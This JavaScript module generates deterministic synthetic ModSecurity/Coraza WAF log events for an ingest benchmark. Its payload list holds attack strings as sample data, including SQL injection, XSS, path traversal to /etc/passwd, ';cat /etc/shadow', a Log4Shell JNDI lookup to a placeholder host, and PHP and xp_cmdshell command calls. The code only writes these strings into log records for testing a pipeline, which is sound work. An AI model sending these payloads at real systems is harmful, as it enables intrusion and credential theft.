// Varied, realistic WAF events for bench/ingest/vector-mix.mjs: the shape a Vector pipeline ships from
// ModSecurity/Coraza audit logs of three sites. Every value that a store indexes or a parser copies
// differs from event to event the way it does on real traffic: client IPs (IPv4 and IPv6, some
// repeat offenders), URIs with query strings, CRS rules with their own files and messages, user agents,
// and timestamps. Deterministic (a seeded PRNG), so the A and B builds of an A/B get the same bytes.
//
// Each event's timestamp_ms is unique (one millisecond slot per event, shuffled): the check after a
// run uses it to prove every event is stored exactly once.

const RULES = [
  ['REQUEST-913-SCANNER-DETECTION.conf', '913100', 'WARNING', 'Found User-Agent associated with security scanner', 'REQUEST_HEADERS:User-Agent'],
  ['REQUEST-920-PROTOCOL-ENFORCEMENT.conf', '920350', 'WARNING', 'Host header is a numeric IP address', 'REQUEST_HEADERS:Host'],
  ['REQUEST-920-PROTOCOL-ENFORCEMENT.conf', '920420', 'CRITICAL', 'Request content type is not allowed by policy', 'REQUEST_HEADERS:Content-Type'],
  ['REQUEST-930-APPLICATION-ATTACK-LFI.conf', '930100', 'CRITICAL', 'Path Traversal Attack (/../) or (/.../)', 'REQUEST_URI_RAW'],
  ['REQUEST-930-APPLICATION-ATTACK-LFI.conf', '930120', 'CRITICAL', 'OS File Access Attempt', 'ARGS:file'],
  ['REQUEST-932-APPLICATION-ATTACK-RCE.conf', '932160', 'CRITICAL', 'Remote Command Execution: Unix Shell Code Found', 'ARGS:cmd'],
  ['REQUEST-933-APPLICATION-ATTACK-PHP.conf', '933160', 'CRITICAL', 'PHP Injection Attack: High-Risk PHP Function Call Found', 'ARGS:q'],
  ['REQUEST-941-APPLICATION-ATTACK-XSS.conf', '941100', 'CRITICAL', 'XSS Attack Detected via libinjection', 'ARGS:s'],
  ['REQUEST-941-APPLICATION-ATTACK-XSS.conf', '941160', 'CRITICAL', 'NoScript XSS InjectionChecker: HTML Injection', 'ARGS:comment'],
  ['REQUEST-942-APPLICATION-ATTACK-SQLI.conf', '942100', 'CRITICAL', 'SQL Injection Attack Detected via libinjection', 'ARGS:id'],
  ['REQUEST-942-APPLICATION-ATTACK-SQLI.conf', '942190', 'CRITICAL', 'Detects MSSQL code execution and information gathering attempts', 'ARGS:search'],
  ['REQUEST-942-APPLICATION-ATTACK-SQLI.conf', '942440', 'CRITICAL', 'SQL Comment Sequence Detected', 'REQUEST_COOKIES:session'],
  ['REQUEST-944-APPLICATION-ATTACK-JAVA.conf', '944150', 'CRITICAL', 'Potential Remote Command Execution: Log4j / Log4shell', 'REQUEST_HEADERS:X-Api-Version'],
  ['RESPONSE-951-DATA-LEAKAGES-SQL.conf', '951120', 'CRITICAL', 'SQL Information Leakage', 'RESPONSE_BODY'],
  ['REQUEST-949-BLOCKING-EVALUATION.conf', '949110', 'CRITICAL', 'Inbound Anomaly Score Exceeded (Total Score: 10)', 'TX:blocking_inbound_anomaly_score'],
  ['cms-rules.conf', '200104', 'WARNING', 'CMS: xmlrpc.php multicall brute force', 'REQUEST_BODY'],
  ['cms-rules.conf', '200210', 'NOTICE', 'CMS: user enumeration via ?author=', 'ARGS:author'],
];
const PATHS = ['/', '/wp-login.php', '/wp-admin/admin-ajax.php', '/xmlrpc.php', '/index.php', '/search', '/api/v2/orders', '/products/item', '/cart/add', '/wp-json/wp/v2/users', '/cgi-bin/luci', '/.env', '/static/app.js', '/blog/2026/11/a-post-title', '/account/settings'];
const PAYLOADS = ["1' OR '1'='1", '<script>alert(document.cookie)</script>', '../../../../etc/passwd', ';cat /etc/shadow', '${jndi:ldap://x.example/a}', 'UNION SELECT password FROM users--', 'system($_GET[c])', '1;exec xp_cmdshell', '<img src=x onerror=alert(1)>', 'admin'];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'sqlmap/1.8.11#stable (https://sqlmap.org)',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'python-requests/2.32.3',
  'curl/8.11.0',
  'Go-http-client/1.1',
];
const METHODS = ['GET', 'GET', 'GET', 'POST', 'POST', 'HEAD', 'PUT'];
const RULES_DIR = '/usr/share/modsecurity-crs/rules/';

/** mulberry32: small, fast, good enough to vary fields. */
function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function clientIp(rand, ipv6) {
  // A third of events come from a small set of repeat offenders, the rest from a wide spread, a
  // share `ipv6` of it on IPv6 (default 0.1: 6.7% of all events).
  if (rand() < 0.33) return `185.220.101.${1 + Math.floor(rand() * 60)}`;
  if (rand() < ipv6) return `2001:db8:${Math.floor(rand() * 65536).toString(16)}::${Math.floor(rand() * 65536).toString(16)}`;
  return `${1 + Math.floor(rand() * 223)}.${Math.floor(rand() * 256)}.${Math.floor(rand() * 256)}.${1 + Math.floor(rand() * 254)}`;
}

/**
 * `count` events over `hosts`, newest `now`, spread over `spreadMs` (each its own millisecond).
 * Returns the events' JSON bodies in batches of `batch` (Buffers) and the slot of each timestamp sent.
 */
export function makeBatches({ count, batch, hosts, now, spreadMs, seed = 42, ipv6 = 0.1 }) {
  const rand = prng(seed);
  if (spreadMs < count) throw new Error('spread must give every event its own millisecond');
  const step = Math.floor(spreadMs / count);
  // A shuffled order of millisecond slots: arrival order differs from time order, as when several
  // shippers' buffers interleave.
  const slots = new Uint32Array(count);
  for (let i = 0; i < count; i++) slots[i] = i;
  for (let i = count - 1; i > 0; i--) {
    const j = Math.floor(rand() * (i + 1));
    const t = slots[i];
    slots[i] = slots[j];
    slots[j] = t;
  }
  const bodies = [];
  let lines = [];
  for (let i = 0; i < count; i++) {
    const [file, ruleId, severity, msg, variable] = RULES[Math.floor(rand() * RULES.length)];
    const payload = PAYLOADS[Math.floor(rand() * PAYLOADS.length)];
    const path = PATHS[Math.floor(rand() * PATHS.length)];
    const event = {
      timestamp_ms: now - slots[i] * step,
      host: hosts[Math.floor(rand() * hosts.length)],
      client_ip: clientIp(rand, ipv6),
      uri: `${path}?${variable.split(':')[1]?.toLowerCase() ?? 'q'}=${encodeURIComponent(payload)}&p=${Math.floor(rand() * 100000)}`,
      method: METHODS[Math.floor(rand() * METHODS.length)],
      waf_file: RULES_DIR + file,
      rule_id: ruleId,
      severity,
      msg,
      user_agent: AGENTS[Math.floor(rand() * AGENTS.length)],
      matched_var: variable,
      matched_data: payload,
    };
    if (rand() < 0.4) event.referer = `https://${event.host}${PATHS[Math.floor(rand() * PATHS.length)]}`;
    lines.push(JSON.stringify(event));
    if (lines.length === batch || i === count - 1) {
      bodies.push(Buffer.from(`[${lines.join(',')}]`));
      lines = [];
    }
  }
  /** The slot of a stored timestamp (0 .. count-1), or -1 when no event of ours had it. */
  const slotOf = (ts) => {
    const k = (now - ts) / step;
    return Number.isInteger(k) && k >= 0 && k < count ? k : -1;
  };
  return { bodies, slotOf };
}
